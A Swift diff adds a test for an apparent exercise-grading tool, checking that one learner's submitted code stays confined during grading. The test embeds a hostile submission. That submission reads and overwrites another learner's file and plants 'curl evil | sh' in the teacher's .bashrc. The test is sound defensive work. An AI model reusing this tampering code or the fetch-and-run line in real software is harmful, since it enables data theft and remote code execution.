@@ -207,4 +207,55 @@ import Testing
         try "title: Thursday\nlessons: [no-di]\n".write(to: file, atomically: true, encoding: .utf8)
         return file
     }
+
+    /// Issue 28: one learner's file that acts only when graded elsewhere (it overwrites another
+    /// learner's exercise with the reference solution, reads her file, and leaves a line in the
+    /// teacher's home) is confined like any check: the others' workspaces stay byte-identical,
+    /// nothing appears outside, and its own grade is its code's (a correct answer passes).
+    @Test func aHostileLearnerLeavesTheOthersUntouchedWhenAClassIsGraded() async throws {
+        let didojo = try Didojo()
+        let lesson = try #require(Self.catalog.lesson(id: "no-di"))
+        let first = lesson.exercises[0]
+        let room = didojo.home.url.appendingPathComponent("class")
+        let names = didojo.home.url.appendingPathComponent("names.txt")
+        try "Mallory\nGrace Hopper\nAlan Turing\n".write(to: names, atomically: true, encoding: .utf8)
+        _ = try await didojo.run(["handout", room.path, "--names", names.path])
+        let grace = room.appendingPathComponent("grace-hopper")
+        try write(first, first.starter, into: grace, appending: "\n// her own work in progress\n")
+        let victimFile = grace.appendingPathComponent("\(first.lessonID)/\(first.number)/\(first.fileName)")
+        let teachersRC = didojo.home.url.appendingPathComponent(".bashrc")
+        let solution = try String(contentsOf: first.solution, encoding: .utf8)
+        let hostile = solution + """
+
+            import Foundation
+
+            let mischief: Void = {
+                let victim = "\(victimFile.path)"
+                let stolen = (try? String(contentsOfFile: victim, encoding: .utf8)) ?? ""
+                print(stolen.isEmpty ? "could not read her file" : "read her file")
+                FileManager.default.createFile(atPath: victim, contents: Data("overwritten".utf8))
+                FileManager.default.createFile(atPath: "\(teachersRC.path)", contents: Data("curl evil | sh".utf8))
+            }()
+
+            extension SocialPresenter {
+                static let armed: Void = mischief
+            }
+            """
+        let mallory = room.appendingPathComponent("mallory")
+        try (hostile.replacingOccurrences(of: "    init(", with: "    init(_ unused: Void = SocialPresenter.armed, ", options: [], range: nil))
+            .write(to: mallory.appendingPathComponent("\(first.lessonID)/\(first.number)/\(first.fileName)"), atomically: true, encoding: .utf8)
+        let others = [grace, room.appendingPathComponent("alan-turing")]
+        let before = try others.map(Self.snapshot)
+        let json = didojo.home.url.appendingPathComponent("class.json")
+        let graded = try await didojo.run(
+            ["verify", "--lesson", "no-di", "--workspaces", mallory.path] + others.map(\.path) + ["--json", json.path]
+        )
+        #expect(try others.map(Self.snapshot) == before, "a learner's code changed another learner's workspace")
+        #expect(!FileManager.default.fileExists(atPath: teachersRC.path), "a learner's code wrote into the teacher's home")
+        #expect(try String(contentsOf: victimFile, encoding: .utf8).hasSuffix("// her own work in progress\n"))
+        #expect(graded.standardOutput.contains("Mallory"), "\(graded.standardOutput)")
+        let text = try String(contentsOf: json, encoding: .utf8)
+        #expect(text.contains("\"confined\" : true") || text.contains("\"confined\":true"), "each grade says it was confined: \(text.prefix(600))")
+    }
+
 }
